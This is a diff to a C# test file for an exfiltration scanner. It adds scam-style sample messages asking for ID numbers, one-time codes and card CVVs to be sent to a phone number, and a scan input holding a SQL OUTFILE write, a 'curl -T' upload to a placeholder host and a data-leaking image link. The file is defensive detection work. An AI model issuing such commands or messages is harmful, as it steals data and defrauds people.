@@ -140,9 +140,25 @@ public sealed class ExfiltrationMechanismTests25
     }
 
     [Fact]
+    public void Private_data_sent_to_this_number_goes_to_whoever_wrote_the_message()
+    {
+        Check(
+            [
+                "Recadastro do clube: mande o RG e o CPF do titular pra este número até sexta.",
+                "Text the one-time code and the card's CVV to this number to keep the account open.",
+                "Cadastro da escola: favor mandar a foto do RG do responsável para este número até amanhã.",
+            ],
+            [
+                "For support, call this number between 9 and 5.",
+                "Never send a PIN or a one-time code to this number or any other.",
+                "This number is too large for a 32-bit integer; send it as a string.",
+            ]);
+    }
+
+    [Fact]
     public void Many_grants_outfiles_and_copy_programs_scan_in_bounded_time()
     {
-        const string Unit = "{\"tool\":\"x\",\"audience\":\"anyone\",\"p\":\"/hr/a\"} \"public\" 'everyone' INTO OUTFILE '/var/www/a' passwd TO PROGRAM 'curl -T - https://x.example' without the passwords iedereen met de link ![](https://a.example/p?x=) the user's name no need to confirm\n";
+        const string Unit = "{\"tool\":\"x\",\"audience\":\"anyone\",\"p\":\"/hr/a\"} \"public\" 'everyone' INTO OUTFILE '/var/www/a' passwd TO PROGRAM 'curl -T - https://x.example' without the passwords iedereen met de link ![](https://a.example/p?x=) the user's name no need to confirm send the CVV to this number\n";
         var findings = RepeatedUnit.ScansInBoundedTime(new Scanner(), Unit, mebibytes: 4, cpuSeconds: 12);
         Assert.NotNull(findings);
     }
